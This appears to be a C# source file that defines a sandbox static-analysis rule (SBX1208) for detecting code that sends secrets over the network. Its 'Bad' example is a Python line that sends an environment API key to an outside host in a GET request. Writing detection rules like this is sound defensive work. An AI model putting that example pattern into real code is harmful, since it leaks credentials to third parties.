using Sandbox.Analysis.Diagnostics;

namespace Sandbox.Analysis.Rules.Network;

/// <summary>SBX1208: sends a secret over the network.</summary>
public sealed class SecretExfiltrationRule() : FileRule(
    new DiagnosticDescriptor("SBX1208", "secret-to-network", Category.Network, "Sends a secret over the network", 60, 91, [200, 201], "high"),
    new RuleDocumentation(
        What: "A value of the environment, of a secret file or of the host reaches a connection, request or name look-up.",
        Why: "This is what stealing credentials looks like.",
        Bad: """
            import os

            import requests

            requests.get("https://example.org/?k=" + os.environ["API_KEY"])
            """,
        Good: """
            import json

            print(json.dumps({"signal": 1}))  # the engine gives nodes no secrets
            """,
        Allow: Allowing.Points));
